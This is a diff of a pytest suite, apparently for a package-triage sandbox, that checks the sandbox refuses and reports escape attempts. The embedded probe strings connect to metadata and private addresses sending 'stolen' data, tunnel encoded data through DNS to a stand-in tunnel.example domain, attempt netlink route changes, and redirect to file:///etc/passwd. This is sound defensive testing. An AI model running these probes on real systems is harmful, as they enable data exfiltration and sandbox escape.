@@ -1,25 +1,17 @@
-"""A package reaches nothing but a read-only view of the index, and every attempt is refused at once and reported."""
+"""A package reaches nothing but a read-only view of the index, and every attempt is refused at once
+and reported."""
 
-import os
-from pathlib import Path
 from typing import Any
 
 import pytest
 from conftest import Snakehook
-from hostile import add_probe, assert_nothing_is_left, findings, last_json, targets
+from hostile import PROBES, add_probe, assert_nothing_is_left, findings, last_json, targets
 from standins import Index, Reply, redirect
 
 
-@pytest.fixture(params=["as root", "as an ordinary user"])
-def program(request: pytest.FixtureRequest, jail: None) -> Snakehook:
-    if request.param == "as root" and os.geteuid() != 0:
-        pytest.skip("needs root")
-    found: Snakehook = request.getfixturevalue("snakehook" if request.param == "as root" else "ordinary")
-    return found
-
-
 def probe(program: Snakehook, index: Index, source: str) -> tuple[Any, dict[str, Any]]:
-    """What a module that begins with hostile.PROBES said when it was imported, and the report; nothing is left."""
+    """What a module that begins with hostile.PROBES said when it was imported, and the report;
+    nothing is left."""
     add_probe(index, source)
     _, report, _ = program.triage("probe", "--mode", "import", RUN_TIMEOUT_SEC=20)
     assert report["outcome"] == "ok", report["reason"]
@@ -28,11 +20,8 @@ def probe(program: Snakehook, index: Index, source: str) -> tuple[Any, dict[str,
 
 
 def nothing_is_left(program: Snakehook) -> None:
-    places = program.environment
-    assert_nothing_is_left(Path(places["STATE_DIR"]), Path(places["PIP_CACHE_DIR"]))
+    assert_nothing_is_left(program.state, program.cache)
 
-
-# --- addresses --------------------------------------------------------------------------------------------------------
 
 # Private, link-local, metadata, documentation, loopback and multicast.
 ADDRESSES = [
@@ -51,11 +40,11 @@ CONNECT = """
 def reach(kind, host, port):
     def probe():
         family = socket.AF_INET6 if ":" in host else socket.AF_INET
-        with socket.socket(family, kind) as one:
-            one.settimeout(15)
-            one.connect((host, port))
-            one.send(b"stolen")
-            one.recv(10)
+        with socket.socket(family, kind) as sock:
+            sock.settimeout(15)
+            sock.connect((host, port))
+            sock.send(b"stolen")
+            sock.recv(10)
     return probe
 began = time.monotonic()
 probes = {}
@@ -68,14 +57,16 @@ probes["raw"] = lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IP
 probes["icmp"] = lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
 probes["icmp6"] = lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).close()
 def ping():
-    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
-    one.sendto(b"\\x08" + bytes(7), ("192.0.2.1", 0))
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    sock.sendto(b"\\x08" + bytes(7), ("192.0.2.1", 0))
 probes["ping"] = ping
 def route():
-    one = socket.socket(16, socket.SOCK_RAW, 0)  # netlink: the jail's own namespace only, and no right to change it
-    one.bind((0, 0))
-    one.send(struct.pack("=IHHII", 28, 24, 5, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0))
-    answer = one.recv(4096)
+    # Netlink: the jail's own namespace only, and no right to change it.
+    sock = socket.socket(16, socket.SOCK_RAW, 0)
+    sock.bind((0, 0))
+    new_route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)
+    sock.send(struct.pack("=IHHII", 28, 24, 5, 1, 0) + new_route)
+    answer = sock.recv(4096)
     code = struct.unpack_from("=i", answer, 16)[0]
     if code: raise OSError(-code, "netlink")
 probes["route"] = route
@@ -93,15 +84,23 @@ def test_no_address_can_be_reached_and_every_try_is_refused_at_once_and_reported
     with socket.socket(socket.AF_UNIX) as neighbour:
         neighbour.bind("\0snakehook-neighbour")
         neighbour.listen()
-        local = {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), port) if isinstance(info[4][0], str)}
-        source = CONNECT.replace("HOSTS", repr([*ADDRESSES, "127.0.0.1", *local])).replace("PORT", str(port))
+        local = {
+            info[4][0]
+            for info in socket.getaddrinfo(socket.gethostname(), port)
+            if isinstance(info[4][0], str)
+        }
+        source = CONNECT.replace("HOSTS", repr([*ADDRESSES, "127.0.0.1", *local])).replace(
+            "PORT", str(port)
+        )
         seen, report = probe(program, index, source.replace("NAME", "snakehook-neighbour"))
-    assert {what: got for what, got in seen["results"].items() if got in ("it worked", "TimeoutError")} == {}
+    assert {
+        what: got for what, got in seen["results"].items() if got in ("it worked", "TimeoutError")
+    } == {}
     assert seen["seconds"] < 10  # 30 probes that wait would take 15 s each
     reported = targets(report)
     for host in ADDRESSES:
-        assert any(host.rpartition(":")[2] in one for one in reported), host
-    assert any("snakehook-neighbour" in one for one in reported)
+        assert any(host.rpartition(":")[2] in target for target in reported), host
+    assert any("snakehook-neighbour" in target for target in reported)
     assert len(findings(report, "network.attempt")) >= len(ADDRESSES)
 
 
@@ -110,35 +109,38 @@ import base64
 secret = base64.b32encode(b"stolen goods " * 4).decode().strip("=").lower()
 name = ".".join(secret[at:at + 40] for at in range(0, len(secret), 40)) + ".tunnel.example"
 def question(kind):
-    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
-    return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0" + bytes([kind]) + b"\\0\\1"
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    head = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
+    return head + labels + b"\\0\\0" + bytes([kind]) + b"\\0\\1"
 def udp(kind):
     def ask():
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
-            one.settimeout(10)
-            one.sendto(question(kind), ("127.0.0.1", 53))
-            answer = one.recv(4096)
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+            sock.settimeout(10)
+            sock.sendto(question(kind), ("127.0.0.1", 53))
+            answer = sock.recv(4096)
             return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
     return ask
 def tcp():
-    with socket.create_connection(("127.0.0.1", 53), timeout=10) as one:
-        one.sendall(len(question(16)).to_bytes(2, "big") + question(16))
-        answer = one.recv(4096)[2:]
+    with socket.create_connection(("127.0.0.1", 53), timeout=10) as sock:
+        sock.sendall(len(question(16)).to_bytes(2, "big") + question(16))
+        answer = sock.recv(4096)[2:]
         return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
 def foreign():
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
-        one.sendto(question(1), ("192.0.2.53", 53))
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.sendto(question(1), ("192.0.2.53", 53))
 print(json.dumps({"name": name, "a": attempt(udp(1)), "txt": attempt(udp(16)), "tcp": attempt(tcp),
                   "foreign": attempt(foreign)}))
 """
 
 
-def test_dns_carries_nothing_out_and_nothing_in_over_udp_and_tcp(program: Snakehook, index: Index) -> None:
+def test_dns_carries_nothing_out_and_nothing_in_over_udp_and_tcp(
+    program: Snakehook, index: Index
+) -> None:
     seen, report = probe(program, index, TUNNEL)
     assert seen["a"] == seen["txt"] == seen["tcp"] == [3, 0]  # NXDOMAIN, without an answer
     assert seen["foreign"] == "ENETUNREACH"
     assert seen["name"] in targets(report, ["dns"])
-    assert any("192.0.2.53" in one for one in targets(report))
+    assert any("192.0.2.53" in target for target in targets(report))
     assert not [path for _, path in index.requests if "tunnel" in path]
 
 
@@ -148,8 +150,10 @@ QUESTIONS = [b"", b"\0" * 11, b"\0" * 12, b"\xff" * 4000, b"\0" * 12 + b"\xc0\x0
 def test_a_malformed_question_does_not_stop_the_resolver(program: Snakehook, index: Index) -> None:
     source = f"""
 for question in {QUESTIONS!r}:
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one: one.sendto(question, ("127.0.0.1", 53))
-    with socket.create_connection(("127.0.0.1", 53)) as one: one.sendall(len(question).to_bytes(2, "big") + question)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.sendto(question, ("127.0.0.1", 53))
+    with socket.create_connection(("127.0.0.1", 53)) as sock:
+        sock.sendall(len(question).to_bytes(2, "big") + question)
 tell(after=lambda: socket.getaddrinfo("after.example", 80))
 """
     seen, report = probe(program, index, source)
@@ -157,14 +161,12 @@ tell(after=lambda: socket.getaddrinfo("after.example", 80))
     assert "after.example" in targets(report, ["dns"])
 
 
-# --- the index --------------------------------------------------------------------------------------------------------
-
 ASK = """
 def ask(request):
     def probe():
-        with socket.create_connection(("127.0.0.1", 3141), timeout=10) as one:
-            one.sendall(request)
-            answer = one.recv(65536)
+        with socket.create_connection(("127.0.0.1", 3141), timeout=10) as sock:
+            sock.sendall(request)
+            answer = sock.recv(65536)
             return answer.split()[1].decode() if answer else "closed"
     return probe
 """
@@ -198,34 +200,41 @@ def test_the_index_answers_nothing_but_a_plain_get(program: Snakehook, index: In
     index.add_wheel("calm", "1.0", {"calm.py": ""})
     index.add_wheel("evil-dep", "1.0", {"evil.py": ""})
     index.answer("/simple/evil--dep/", redirect("/simple/evil-dep/"))  # as a real index does
-    source = ASK + f"tell(**{{name: ask(request) for name, request in {REQUESTS!r}.items()}})"
+    source = (
+        PROBES + ASK + f"tell(**{{name: ask(request) for name, request in {REQUESTS!r}.items()}})"
+    )
     prelude = f"""
 import os
 from pathlib import Path
 if not os.path.exists("/home/dev/asked"):
-    exec({("import sys; sys.stdout = open('/home/dev/asked', 'w')" + chr(10)) + _probes() + source!r})
+    import sys
+    sys.stdout = open("/home/dev/asked", "w")
+    exec({source!r})
     sys.stdout.close()
     sys.stdout = sys.__stdout__
 """
-    index.add_backend_sdist("asker", "1.0", prelude, {"asker.py": "print(open('/home/dev/asked').read())"})
+    index.add_backend_sdist(
+        "asker", "1.0", prelude, {"asker.py": "print(open('/home/dev/asked').read())"}
+    )
     _, report, _ = program.triage("asker", "--mode", "import", PACKAGE_DENYLIST="Evil.Dep")
     seen = last_json(report)
     smuggled, body = seen.pop("smuggled"), seen.pop("body")
-    assert {what: got for what, got in seen.items() if got not in ("400", "403", "404", "closed")} == {}
+    assert {
+        what: got for what, got in seen.items() if got not in ("400", "403", "404", "closed")
+    } == {}
     assert smuggled in ("400", "closed")
     assert body in ("400", "closed")
     asked = {path for _, path in index.requests}
-    assert asked <= {"/simple/pip/", "/simple/asker/", "/simple/calm/", "/files/asker-1.0.tar.gz"}, asked
+    assert asked <= {
+        "/simple/pip/",
+        "/simple/asker/",
+        "/simple/calm/",
+        "/files/asker-1.0.tar.gz",
+    }, asked
     notes = "\n".join(report["coverage"]["notes"])
     for what in ("POST", "PUT", "CONNECT", "stolen=goods", "evil-dep"):
         assert what in notes, what
     nothing_is_left(program)
-
-
-def _probes() -> str:
-    from hostile import PROBES
-
-    return PROBES
 
 
 def test_the_index_is_not_there_when_the_package_runs(program: Snakehook, index: Index) -> None:
@@ -237,7 +246,8 @@ def test_the_index_is_not_there_when_the_package_runs(program: Snakehook, index:
     assert [path for _, path in index.requests[before:]].count("/simple/probe/") == 1  # pip's own
 
 
-# What a build gets when it asks for each of the projects, and then for the files that their pages name.
+# What a build gets when it asks for each of the projects, and then for the files that their pages
+# name.
 READ = """
 import http.client, json, os
 def get(path):
@@ -250,21 +260,29 @@ if not os.path.exists("/home/dev/got"):
     for name in NAMES:
         status, body = get(f"/simple/{name}/")
         files = json.loads(body)["files"] if status == 200 else []
-        got[name] = [status, [get(one["url"])[0] for one in files]]
+        got[name] = [status, [get(file["url"])[0] for file in files]]
     with open("/home/dev/got", "w") as file: json.dump(got, file)
 """
 
 
-def read_by_a_build(program: Snakehook, index: Index, names: list[str]) -> tuple[dict[str, Any], dict[str, Any]]:
+def read_by_a_build(
+    program: Snakehook, index: Index, names: list[str]
+) -> tuple[dict[str, Any], dict[str, Any]]:
     reader = {"reader.py": "print(open('/home/dev/got').read())"}
     index.add_backend_sdist("reader", "1.0", READ.replace("NAMES", repr(names)), reader)
     _, report, _ = program.triage("reader", "--mode", "import")
     nothing_is_left(program)
-    assert [one["file"] for one in report["downloads"]] == ["reader-1.0.tar.gz"]
+    assert [download["file"] for download in report["downloads"]] == ["reader-1.0.tar.gz"]
     return last_json(report), report
 
 
-LOCATIONS = ["http://127.0.0.1:9/elsewhere", "file:///etc/passwd", "//169.254.169.254/", "http://[", "ftp://127.0.0.1/"]
+LOCATIONS = [
+    "http://127.0.0.1:9/elsewhere",
+    "file:///etc/passwd",
+    "//169.254.169.254/",
+    "http://[",
+    "ftp://127.0.0.1/",
+]
 
 
 def test_a_redirect_to_elsewhere_is_refused(program: Snakehook, index: Index) -> None:
@@ -272,7 +290,11 @@ def test_a_redirect_to_elsewhere_is_refused(program: Snakehook, index: Index) ->
     for name in names:
         index.add_wheel(name, "1.0", {f"{name.replace('-', '_')}.py": ""})
         index.entry(name, core_metadata=None)
-        path = f"/simple/{name}/" if "page" in name else f"/files/{name.replace('-', '_')}-1.0-py3-none-any.whl"
+        path = (
+            f"/simple/{name}/"
+            if "page" in name
+            else f"/files/{name.replace('-', '_')}-1.0-py3-none-any.whl"
+        )
         index.answer(path, redirect(LOCATIONS[int(name[-1])]))
     seen, report = read_by_a_build(program, index, names)
     for name, (page, files) in seen.items():
@@ -295,7 +317,9 @@ ODD_FILES: list[dict[str, Any]] = [
 ]
 
 
-def test_a_file_with_an_odd_name_host_or_hash_is_not_offered(program: Snakehook, index: Index) -> None:
+def test_a_file_with_an_odd_name_host_or_hash_is_not_offered(
+    program: Snakehook, index: Index
+) -> None:
     names = [f"lured-{number}" for number in range(len(ODD_FILES))]
     for name, fields in zip(names, ODD_FILES, strict=True):
         index.add_wheel(name, "1.0", {f"{name.replace('-', '_')}.py": ""}).update(fields)
@@ -305,7 +329,7 @@ def test_a_file_with_an_odd_name_host_or_hash_is_not_offered(program: Snakehook,
 
 
 def test_a_wrong_sha256_is_reported_and_leaves_nothing_in_the_cache(
-    jail: None, snakehook: Snakehook, index: Index, tmp_path: Path
+    jail: None, snakehook: Snakehook, index: Index
 ) -> None:
     index.add_wheel("swapped", "1.0", {"swapped.py": ""})
     index.entry("swapped", core_metadata=None)
@@ -313,13 +337,12 @@ def test_a_wrong_sha256_is_reported_and_leaves_nothing_in_the_cache(
     _, report, _ = snakehook.triage("swapped", RUN_TIMEOUT_SEC=20)
     assert (report["outcome"], report["downloads"]) == ("failed", [])
     assert any("sha256" in note for note in report["coverage"]["notes"])
-    assert not [path for path in (tmp_path / "cache").rglob("*") if path.is_file()]
+    assert not [path for path in snakehook.cache.rglob("*") if path.is_file()]
 
 
-# --- the denylist -----------------------------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize("how", ["a dependency of a dependency", "an extra", "a build requirement", "a direct link"])
+@pytest.mark.parametrize(
+    "how", ["a dependency of a dependency", "an extra", "a build requirement", "a direct link"]
+)
 def test_the_denylist_holds_for_what_is_pulled_in_however_it_is_spelled(
     jail: None, snakehook: Snakehook, index: Index, how: str
 ) -> None:
@@ -330,18 +353,29 @@ def test_the_denylist_holds_for_what_is_pulled_in_however_it_is_spelled(
             index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["middle"])
         case "an extra":
             extra = {"Provides-Extra": "more"}
-            index.add_wheel("middle", "1.0", {"middle.py": ""}, requires=["Evil.Dep; extra == 'more'"], metadata=extra)
+            index.add_wheel(
+                "middle",
+                "1.0",
+                {"middle.py": ""},
+                requires=["Evil.Dep; extra == 'more'"],
+                metadata=extra,
+            )
             index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["middle[more]"])
         case "a build requirement":
-            project = '[build-system]\nrequires = ["EVIL__dep"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
-            index.add_sdist("outer", "1.0", {"pyproject.toml": project, "backend.py": "", "outer.py": ""})
+            project = '[build-system]\nrequires = ["EVIL__dep"]\n'
+            project += 'build-backend = "backend"\nbackend-path = ["."]\n'
+            index.add_sdist(
+                "outer", "1.0", {"pyproject.toml": project, "backend.py": "", "outer.py": ""}
+            )
         case "a direct link":
             link = f"evil-dep @ {index.origin}/files/evil_dep-1.0-py3-none-any.whl"
             index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=[link])
     _, report, _ = snakehook.triage("outer", PACKAGE_DENYLIST="Evil_Dep", RUN_TIMEOUT_SEC=20)
     assert report["outcome"] == "failed"
-    assert not [one for one in report["downloads"] if "evil" in one["file"]]
+    assert not [download for download in report["downloads"] if "evil" in download["file"]]
     assert not [path for _, path in index.requests if "evil" in path]
     if how != "a direct link":
-        assert "evil-dep is on the denylist" in "\n".join([report["reason"], *report["coverage"]["notes"]])
+        assert "evil-dep is on the denylist" in "\n".join(
+            [report["reason"], *report["coverage"]["notes"]]
+        )
     nothing_is_left(snakehook)
